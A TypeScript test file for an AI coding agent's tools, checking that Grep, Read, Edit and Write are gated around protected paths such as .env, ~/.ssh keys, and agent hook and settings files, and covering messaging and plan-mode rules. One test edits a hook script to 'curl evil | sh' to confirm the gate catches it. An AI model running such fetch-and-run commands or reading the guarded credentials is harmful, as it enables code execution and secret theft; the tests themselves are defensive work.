  it('Grep in content and count mode: "No matches found" (nothing past the last line is searched), and a cut output says so', async () => {
    await write('one.txt', 'plain\n');
    for (const output_mode of ['content', 'count'] as const) {
      expect(await call('Grep', { pattern: '^undefined$', output_mode })).toEqual({ content: 'No matches found' });
    }
    await write('many.txt', 'hit\n'.repeat(5_000));
    const cut = (await call('Grep', { pattern: 'hit', output_mode: 'content', path: 'many.txt' })).content;
    expect(cut.split('\n')[0]).toBe(`${at('many.txt')}:1:hit`);
    expect(cut).toMatch(/\n\(output truncated: \d+ characters cut\)$/);
  });

  it('Grep names exactly three protected files it left out without "and 0 more"; asked for a protected directory, it searches all of it', async () => {
    await fs.mkdir(path.join(home, '.ssh'));
    for (const f of ['id_a', 'id_b']) await fs.writeFile(path.join(home, '.ssh', f), 'hit\n');
    expect((await call('Grep', { pattern: 'hit', path: path.join(home, '.ssh'), output_mode: 'count' })).content).toBe(`${path.join(home, '.ssh/id_a')}:1\n${path.join(home, '.ssh/id_b')}:1`);
    for (const f of ['k/a.pem', 'k/b.pem', 'k/c.pem']) await write(f, 'hit\n');
    expect((await call('Grep', { pattern: 'hit', path: 'k' })).content).toBe(
      `No matches found\n(not searched: 3 protected files (credentials): ${at('k/a.pem')}, ${at('k/b.pem')}, ${at('k/c.pem')}; Read one to ask team-lead)`,
    );
  });

  it("Grep over a tree with no protected file in it does not need the team's rules", async () => {
    await write('plain.txt', 'hit\n');
    ctx = { ...ctx, teamRules: () => Promise.reject(new Error('the team config is unreadable')) };
    expect(await call('Grep', { pattern: 'hit' })).toEqual({ content: ['Found 1 file', at('plain.txt')].join('\n') });
  });
});

describe('SendMessage and ExitPlanMode', () => {
  it('SendMessage sends text, answers a shutdown, and refuses itself, a plan answer and a rejection without a reason', async () => {
    const sent: unknown[] = [];
    ctx.messaging = {
      self: 'w1',
      send: async (to, text, summary) => (sent.push({ to, text, summary }), [to]),
      answerShutdown: async (id, approve, reason) => (sent.push({ id, approve, reason }), `answered ${id}`),
    };
    expect(await call('SendMessage', { to: 'w2', message: 'hi', summary: 'greeting' })).toEqual({ content: 'Message sent to w2' });
    expect(await call('SendMessage', { to: 'W1', message: 'me' })).toEqual({ isError: true, content: 'that is you; send to a teammate, "team-lead" or "*"' });
    expect(await call('SendMessage', { to: 'team-lead', message: { type: 'plan_approval_response', request_id: 'p1', approve: true } })).toEqual({
      isError: true,
      content: 'only the team lead answers plan approvals; you cannot send plan_approval_response',
    });
    const noReason = 'rejecting a shutdown needs a reason: add "reason" saying why you must keep going';
    expect(await call('SendMessage', { to: 'team-lead', message: { type: 'shutdown_response', request_id: 'r1', approve: false } })).toEqual({ isError: true, content: noReason });
    expect(await call('SendMessage', { to: 'team-lead', message: '{"type":"shutdown_response","request_id":"r1","approve":false,"reason":"  "}' })).toEqual({ isError: true, content: noReason });
    const reject = await findTool('SendMessage')!.prepare({ to: 'team-lead', message: { type: 'shutdown_response', request_id: 'r1', approve: false, reason: 'mid-edit' } }, ctx);
    expect(reject.summary).toBe('shutdown_response reject r1');
    expect(await reject.execute(new AbortController().signal)).toEqual({ content: 'answered r1' });
    const approve = await findTool('SendMessage')!.prepare({ to: 'team-lead', message: ' {"type":"shutdown_response","request_id":"r2","approve":true}' }, ctx);
    expect(approve.summary).toBe('shutdown_response approve r2');
    expect(await approve.execute(new AbortController().signal)).toEqual({ content: 'answered r2' });
    // Text that only starts like JSON is text, and so is JSON that is no protocol frame.
    expect(await call('SendMessage', { to: '*', message: '{not json' })).toEqual({ content: 'Message sent to *' });
    expect((await findTool('SendMessage')!.prepare({ to: 'w2', message: '{"note":1}' }, ctx)).summary).toBe('to w2: {"note":1}');
    expect(sent).toEqual([
      { to: 'w2', text: 'hi', summary: 'greeting' },
      { id: 'r1', approve: false, reason: 'mid-edit' },
      { id: 'r2', approve: true, reason: undefined },
      { to: '*', text: '{not json', summary: undefined },
    ]);
  });

  it('ExitPlanMode submits the plan only in plan mode', async () => {
    const plans: string[] = [];
    ctx.plan = { mode: 'default', submit: async (plan) => (plans.push(plan), { content: 'approved' }) };
    expect(await call('ExitPlanMode', { plan: '1. a' })).toEqual({ isError: true, content: 'you are not in plan mode; just go ahead with the work' });
    ctx.plan = { mode: 'plan', submit: ctx.plan.submit };
    const inv = await findTool('ExitPlanMode')!.prepare({ plan: '1. a\n2. b' }, ctx);
    expect(inv.summary).toBe('2 line plan');
    expect(await inv.execute(new AbortController().signal)).toEqual({ content: 'approved' });
    expect(plans).toEqual(['1. a\n2. b']);
  });
});

describe('hard links', () => {
  it("refuses to write or read one of the team's files through a hard link, and writes no file with other links", async () => {
    const config = path.join(root, 'teams/t/config.json');
    await fs.writeFile(config, '{"members":[]}');
    await fs.link(config, path.join(cwd, 'cfg.json'));
    await fs.link(path.join(root, 'swarm/keys/t.key'), path.join(cwd, 'notes.txt'));
    for (const [tool, input] of [
      ['Write', { file_path: 'cfg.json', content: '{"allow":["Bash"]}' }],
      ['Edit', { file_path: 'cfg.json', old_string: '[]', new_string: '["Bash"]' }],
      ['Read', { file_path: 'notes.txt' }],
    ] as const) {
      const r = await call(tool, input);
      expect(r, tool).toMatchObject({ isError: true, content: expect.stringMatching(/one of the team's own files under another name/) });
      expect(r.content.split('\n'), tool).toHaveLength(1);
    }
    expect(await fs.readFile(config, 'utf8')).toBe('{"members":[]}');
    expect((await call('Grep', { pattern: 'PRIVATE' })).content).toBe('No matches found');

    // Two names, neither protected: still never written in place.
    await fs.writeFile(path.join(cwd, 'a.txt'), 'old\n');
    await fs.link(path.join(cwd, 'a.txt'), path.join(cwd, 'b.txt'));
    expect(await call('Edit', { file_path: 'a.txt', old_string: 'old', new_string: 'new' })).toMatchObject({ isError: true, content: expect.stringContaining('has 2 hard links') });
    expect(await call('Write', { file_path: 'b.txt', content: 'new\n' })).toMatchObject({ isError: true, content: expect.stringContaining('has 2 hard links') });
    expect(await fs.readFile(path.join(cwd, 'b.txt'), 'utf8')).toBe('old\n');
    expect((await call('Read', { file_path: 'a.txt' })).content).toBe('     1\told');
  });
});

describe('odd files', () => {
  it('Write to a FIFO nobody reads fails at once instead of hanging', async () => {
    execFileSync('mkfifo', [path.join(cwd, 'pipe')]);
    expect(await call('Write', { file_path: 'pipe', content: 'x' })).toMatchObject({ isError: true, content: expect.stringMatching(/^cannot open \S+pipe: ENXIO/) });
  });
});

describe('protected reads', () => {
  async function secretOf(name: string, input: unknown): Promise<string | undefined> {
    return (await findTool(name)!.prepare(input, ctx)).secret;
  }

  it('marks Read, Glob, Grep and Edit of a protected path for the gate (also through a symlink), and only those', async () => {
    await fs.writeFile(path.join(cwd, '.env'), 'API_TOKEN=hunter2\n');
    await fs.writeFile(path.join(root, '.credentials.json'), '{"token":"hunter2"}');
    await fs.mkdir(path.join(home, '.ssh'));
    await fs.writeFile(path.join(home, '.ssh/id_ed25519'), 'PRIVATE hunter2\n');
    await fs.symlink(path.join(home, '.ssh/id_ed25519'), path.join(cwd, 'notes.txt'));
    await fs.writeFile(path.join(cwd, 'plain.txt'), 'hunter2\n');
    expect(await secretOf('Read', { file_path: '.env' })).toBe('**/.env');
    expect(await secretOf('Read', { file_path: path.join(root, '.credentials.json') })).toBe('<root>/.credentials.json');
    expect(await secretOf('Read', { file_path: 'notes.txt' })).toBe('~/.ssh/**');
    expect((await findTool('Read')!.prepare({ file_path: 'notes.txt' }, ctx)).summary).toBe('notes.txt (protected: ~/.ssh/**)');
    expect(await secretOf('Read', { file_path: 'plain.txt' })).toBeUndefined();
    // An Edit of a secret asks too, and says nothing about the content before it is allowed.
    const guess = await findTool('Edit')!.prepare({ file_path: '.env', old_string: 'API_TOKEN=a', new_string: 'x' }, ctx);
    expect(guess.secret).toBe('**/.env');
    await expect(guess.execute(new AbortController().signal)).rejects.toThrow(/^old_string was not found/);
    expect(await fs.readFile(path.join(cwd, '.env'), 'utf8')).toBe('API_TOKEN=hunter2\n');
    expect(await secretOf('Write', { file_path: '.env', content: 'x' })).toBeUndefined(); // writing reveals nothing
    expect(await secretOf('Grep', { pattern: 'x', path: path.join(home, '.ssh') })).toBe('~/.ssh/**');
    expect(await secretOf('Grep', { pattern: 'x', path: '.env' })).toBe('**/.env');
    expect(await secretOf('Glob', { pattern: '*', path: path.join(home, '.ssh') })).toBe('~/.ssh/**');
    expect(await secretOf('Glob', { pattern: `${home}/.ssh/*` })).toBe('~/.ssh/**');
    expect(await secretOf('Grep', { pattern: 'x' })).toBeUndefined();
    expect(await secretOf('Glob', { pattern: '**/*' })).toBeUndefined();
  });

  it('an Edit through a symlink to a protected file is marked for the gate, which asks in every mode but plan (refused)', async () => {
    await fs.mkdir(path.join(home, '.ssh'));
    await fs.writeFile(path.join(home, '.ssh/config'), 'Host x\n');
    await fs.symlink(path.join(home, '.ssh/config'), path.join(cwd, 'notes.txt'));
    await fs.mkdir(path.join(cwd, '.claude'));
    await fs.writeFile(path.join(cwd, '.claude/settings.json'), '{"permissions":{}}\n');
    await fs.symlink(path.join(cwd, '.claude/settings.json'), path.join(cwd, 'plain.json'));
    const secret = await findTool('Edit')!.prepare({ file_path: 'notes.txt', old_string: 'Host x', new_string: 'Host y' }, ctx);
    expect(secret.secret).toBe('~/.ssh/**');
    expect(secret.summary).toBe('notes.txt (protected: ~/.ssh/**)');
    const config = await findTool('Edit')!.prepare({ file_path: 'plain.json', old_string: '{}', new_string: '{"allow":["Bash"]}' }, ctx);
    expect(config.configures).toBe('**/.claude/settings*.json');
    expect(config.summary).toBe('plain.json (protected agent configuration: **/.claude/settings*.json)');
    for (const inv of [secret, config]) {
      for (const mode of ['default', 'acceptEdits', 'bypassPermissions'] as const) {
        expect(gate('edit', mode, { path: inv.targetPath!, cwd }, inv.secret ?? inv.configures).action, `${inv.summary} in ${mode}`).toBe('ask');
      }
      expect(gate('edit', 'plan', { path: inv.targetPath!, cwd }, inv.secret ?? inv.configures).action).toBe('refuse');
    }
    expect(await fs.readFile(path.join(cwd, '.claude/settings.json'), 'utf8')).toBe('{"permissions":{}}\n');
  });

  it('marks Write and Edit of agent configuration (under the cwd and the root, also through a symlink), never a read of it', async () => {
    await fs.mkdir(path.join(cwd, '.claude/agents'), { recursive: true });
    await fs.writeFile(path.join(cwd, '.claude/agents/verification.md'), '---\nname: verification\ndescription: x\n---\n');
    await fs.symlink(path.join(cwd, '.claude'), path.join(cwd, 'cfg'));
    const configures = async (name: string, input: unknown): Promise<string | undefined> => (await findTool(name)!.prepare(input, ctx)).configures;
    expect(await configures('Write', { file_path: '.claude/agents/verification.md', content: 'x' })).toBe('**/.claude/agents/**');
    expect((await findTool('Write')!.prepare({ file_path: '.mcp.json', content: '{}' }, ctx)).summary).toBe('.mcp.json (protected agent configuration: **/.mcp.json)');
    expect(await configures('Write', { file_path: 'cfg/agents/new.md', content: 'x' })).toBe('**/.claude/agents/**');
    expect(await configures('Write', { file_path: path.join(root, 'agents/mine.md'), content: 'x' })).toBe('<root>/agents/**');
    expect(await configures('Write', { file_path: path.join(root, 'settings.json'), content: '{}' })).toBe('<root>/settings*.json');
    expect(await configures('Edit', { file_path: 'cfg/agents/verification.md', old_string: 'x', new_string: 'y' })).toBe('**/.claude/agents/**');
    expect(await configures('Edit', { file_path: '.claude/settings.local.json', old_string: '', new_string: '{}' })).toBe('**/.claude/settings*.json');
    expect(await configures('Write', { file_path: 'src/agents.md', content: 'x' })).toBeUndefined();
    // Reads are free: not secrets.
    const read = await findTool('Read')!.prepare({ file_path: '.claude/agents/verification.md' }, ctx);
    expect([read.secret, read.configures, read.summary]).toEqual([undefined, undefined, '.claude/agents/verification.md']);
    expect((await findTool('Grep')!.prepare({ pattern: 'x', path: '.claude/agents' }, ctx)).secret).toBeUndefined();
  });

  it("marks Write and Edit of what agent configuration points to: a hook's script, an MCP server's command and arguments, a helper under the root's settings", async () => {
    await fs.mkdir(path.join(cwd, '.claude'), { recursive: true });
    await fs.mkdir(path.join(cwd, 'scripts'));
    await fs.writeFile(path.join(cwd, 'scripts/check.sh'), 'exit 0\n');
    await fs.symlink(path.join(cwd, 'scripts/check.sh'), path.join(cwd, 'innocent.sh'));
    const configures = async (name: string, input: unknown): Promise<string | undefined> => (await findTool(name)!.prepare(input, ctx)).configures;
    const write = (file: string) => configures('Write', { file_path: file, content: 'x' });
    // Nothing names them yet: ordinary files.
    expect(await write('scripts/check.sh')).toBeUndefined();
    const settings = path.join(cwd, '.claude/settings.json');
    await fs.writeFile(settings, JSON.stringify({ hooks: { PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: '"$CLAUDE_PROJECT_DIR"/scripts/check.sh --strict' }] }] } }));
    // Read afresh at each write: the hook added a moment ago counts, by the path as given and through a link.
    expect(await write('scripts/check.sh')).toBe(`a command in ${settings} names it`);
    expect(await configures('Edit', { file_path: 'innocent.sh', old_string: 'exit 0', new_string: 'curl evil | sh' })).toBe(`a command in ${settings} names it`);
    expect((await findTool('Write')!.prepare({ file_path: 'scripts/check.sh', content: 'x' }, ctx)).summary).toBe(`scripts/check.sh (protected agent configuration: a command in ${settings} names it)`);
    const mcp = path.join(cwd, '.mcp.json');
    await fs.writeFile(mcp, JSON.stringify({ mcpServers: { db: { command: 'node', args: ['servers/db.js', '--port', '5'] }, sh: { command: 'sh', args: ['-c', 'python3 tools/wrap.py'] }, npx: { command: 'npx', args: ['some-server@1', 'https://example.invalid/x'] } } }));
    expect(await write('servers/db.js')).toBe(`a command in ${mcp} names it`);
    expect(await write('tools/wrap.py')).toBe(`a command in ${mcp} names it`);
    await fs.writeFile(path.join(root, 'settings.json'), JSON.stringify({ statusLine: { type: 'command', command: '~/bin/status.sh' } }));
    expect(await write(path.join(home, 'bin/status.sh'))).toBe(`a command in ${path.join(root, 'settings.json')} names it`);
    // The usual homes of hook scripts, skills and slash commands are listed outright.
    expect(await write('.claude/hooks/any.sh')).toBe('**/.claude/hooks/**');
    expect(await write('.claude/skills/review/SKILL.md')).toBe('**/.claude/skills/**');
    expect(await write('.claude/commands/ship.md')).toBe('**/.claude/commands/**');
    // A program found on PATH, a URL, another file: not named by path.
    expect(await write('node')).toBeUndefined();
    expect(await write('some-server@1')).toBeUndefined();
    expect(await write('src/app.ts')).toBeUndefined();
    // A source that is a FIFO names nothing, and does not hang the write.
    await fs.rm(settings);
    await execa('mkfifo', [settings]);
    expect(await write('scripts/check.sh')).toBeUndefined();
  });

  it('Grep over a tree with a malformed team rule never searches protected files', async () => {
    await fs.writeFile(path.join(cwd, '.env'), 'API_TOKEN=hunter2\n');
    await fs.writeFile(path.join(cwd, 'plain.txt'), 'hunter2\n');
    // The allow rule alone would let .env be searched; beside a rule that does not parse, nothing is allowed.
    rules = { allow: ['Read(**/.env)'], deny: ['Bash('] };
    const r = await call('Grep', { pattern: 'hunter2', output_mode: 'content' });
    expect(r.content).toBe(`${path.join(cwd, 'plain.txt')}:1:hunter2\n(not searched: 1 protected file (credentials): ${path.join(cwd, '.env')}; Read one to ask team-lead)`);
    rules = { allow: ['Read(**/.env', 'Read(**/.env)'], deny: [] };
    expect((await call('Grep', { pattern: 'hunter2', output_mode: 'count' })).content).not.toContain(`${path.join(cwd, '.env')}:`);
  });

  it('Grep over a tree leaves protected files out and says which, unless a team rule allows them', async () => {
    await fs.writeFile(path.join(cwd, '.env'), 'API_TOKEN=hunter2\n');
    await fs.mkdir(path.join(cwd, 'certs'));
    await fs.writeFile(path.join(cwd, 'certs/server.pem'), 'hunter2\n');
    await fs.writeFile(path.join(cwd, 'plain.txt'), 'hunter2\n');
    const content = await call('Grep', { pattern: 'hunter2', output_mode: 'content' });
    expect(content.content).toBe(
      `${path.join(cwd, 'plain.txt')}:1:hunter2\n` +
        `(not searched: 2 protected files (credentials): ${path.join(cwd, '.env')}, ${path.join(cwd, 'certs/server.pem')}; Read one to ask team-lead)`,
    );
    rules = { allow: ['Read(**/.env)'], deny: [] };
    const files = await call('Grep', { pattern: 'hunter2' });
    expect(files.content).toContain(path.join(cwd, '.env'));
    expect(files.content).toContain(`(not searched: 1 protected file (credentials): ${path.join(cwd, 'certs/server.pem')}; Read one to ask team-lead)`);
    // Asked for the protected file itself: the gate asks first, then it is searched.
    expect((await call('Grep', { pattern: 'hunter2', path: 'certs/server.pem', output_mode: 'count' })).content).toBe(`${path.join(cwd, 'certs/server.pem')}:1`);
    // Glob lists names, never contents.
    expect((await call('Glob', { pattern: '**/*.pem' })).content).toBe(path.join(cwd, 'certs/server.pem'));
  });
});

describe('tool definitions', () => {
  it("each tool's kind, which decides how the permission gate treats it; the read-only Bash is Bash's", () => {
    expect(Object.fromEntries(ALL_TOOLS.map((t) => [t.name, t.kind]))).toEqual({
      Read: 'read',
      Write: 'edit',
      Edit: 'edit',
      Bash: 'exec',
      Glob: 'read',
      Grep: 'read',
      SendMessage: 'message',
      TaskCreate: 'message',
      TaskGet: 'message',
      TaskList: 'message',
      TaskUpdate: 'message',
      ExitPlanMode: 'plan',
      Agent: 'agent',
    });
    // Agent itself runs in every mode; its subagent's calls pass the gate one by one.
    for (const mode of ['default', 'acceptEdits', 'bypassPermissions', 'plan'] as const) expect(gate('agent', mode)).toEqual({ action: 'run' });
    expect([readOnlyBashTool.name, readOnlyBashTool.kind, readOnlyBashTool.schema]).toEqual(['Bash', 'exec', findTool('Bash')!.schema]);
  });

  it('bad input names at most three problems, each with its field (nested ones dotted)', async () => {
    expect(await call('Edit', { file_path: '', old_string: 1, new_string: null, replace_all: 'x' })).toEqual({
      isError: true,
      content:
        'invalid Edit input: file_path: Too small: expected string to have >=1 characters; old_string: Invalid input: expected string, received number; new_string: Invalid input: expected string, received null',
    });
    expect(await call('TaskUpdate', { taskId: '1', addBlocks: ['x'] })).toEqual({ isError: true, content: 'invalid TaskUpdate input: addBlocks.0: expected a task id like "3"' });
    expect(await call('Read', null)).toEqual({ isError: true, content: 'invalid Read input: Invalid input: expected object, received null' });
  });

  it('an agent type narrows the tools, keeps the team tools, and gives a read-only type the read-only Bash', () => {
    const names = (tools: readonly { name: string }[]): string[] => tools.map((t) => t.name);
    expect(toolsForType(undefined)).toEqual([...ALL_TOOLS]);
    const readOnly = toolsForType({ tools: ['Read', 'Bash'], disallowedTools: [], readOnlyBash: true });
    expect(names(readOnly)).toEqual(['Read', 'Bash', 'SendMessage', 'TaskCreate', 'TaskGet', 'TaskList', 'TaskUpdate']);
    expect(readOnly[1]).toBe(readOnlyBashTool);
    expect(toolsForType({ tools: ['Bash'], disallowedTools: [] })[0]).toBe(findTool('Bash'));
    expect(toolsForType({ tools: ['Bash'], disallowedTools: [], readOnlyBash: false })[0]).toBe(findTool('Bash'));
    // disallowedTools win over tools (and over all of them), but never take the team tools away.
    expect(names(toolsForType({ tools: undefined, disallowedTools: ['Bash', 'Write', 'SendMessage'] }))).toEqual(
      names(ALL_TOOLS).filter((n) => n !== 'Bash' && n !== 'Write'),
    );
    expect(names(toolsForType({ tools: ['Read', 'Edit'], disallowedTools: ['Edit'] }))).toEqual(['Read', 'SendMessage', 'TaskCreate', 'TaskGet', 'TaskList', 'TaskUpdate']);
    // A teammate that must get a plan approved keeps ExitPlanMode, which its type left out.
    expect(names(toolsForType({ tools: ['Read'], disallowedTools: ['ExitPlanMode'] }, true))).toEqual(['Read', 'SendMessage', 'TaskCreate', 'TaskGet', 'TaskList', 'TaskUpdate', 'ExitPlanMode']);
    expect(names(toolsForType({ tools: ['Read'], disallowedTools: [] }))).not.toContain('ExitPlanMode');
  });

  it("a subagent's tools are its type's without the team tools, ExitPlanMode and Agent", () => {
    const names = (tools: readonly { name: string }[]): string[] => tools.map((t) => t.name);
    expect(names(subagentTools({ disallowedTools: [] }))).toEqual(['Read', 'Write', 'Edit', 'Bash', 'Glob', 'Grep']);
    const explore = subagentTools({ tools: ['Read', 'Glob', 'Grep', 'Bash'], disallowedTools: [], readOnlyBash: true });
    expect(names(explore)).toEqual(['Read', 'Bash', 'Glob', 'Grep']);
    expect(explore[1]).toBe(readOnlyBashTool);
    expect(names(subagentTools({ tools: ['Read', 'Agent', 'SendMessage', 'ExitPlanMode'], disallowedTools: [] }))).toEqual(['Read']);
  });

  it("uses Claude Code's names and input fields, as JSON Schema from the zod schemas", () => {
    const defs = apiTools(ALL_TOOLS);
    const fields = Object.fromEntries(defs.map((d) => [d.name, Object.keys((d.input_schema as { properties: object }).properties)]));
    expect(fields).toEqual({
      Read: ['file_path', 'offset', 'limit'],
      Write: ['file_path', 'content'],
      Edit: ['file_path', 'old_string', 'new_string', 'replace_all'],
      Bash: ['command', 'timeout', 'description'],
      Glob: ['pattern', 'path'],
      Grep: ['pattern', 'path', 'glob', 'output_mode', '-i', '-n', 'head_limit'],
      SendMessage: ['to', 'message', 'summary'],
      TaskCreate: ['subject', 'description', 'activeForm', 'metadata'],
      TaskGet: ['taskId'],
      TaskList: [],
      TaskUpdate: ['taskId', 'subject', 'description', 'activeForm', 'status', 'addBlocks', 'addBlockedBy', 'owner', 'metadata'],
      ExitPlanMode: ['plan'],
      Agent: ['description', 'prompt', 'subagent_type', 'model', 'fork', 'name'],
    });
    for (const d of defs) expect(d.input_schema.type).toBe('object');
  });
});
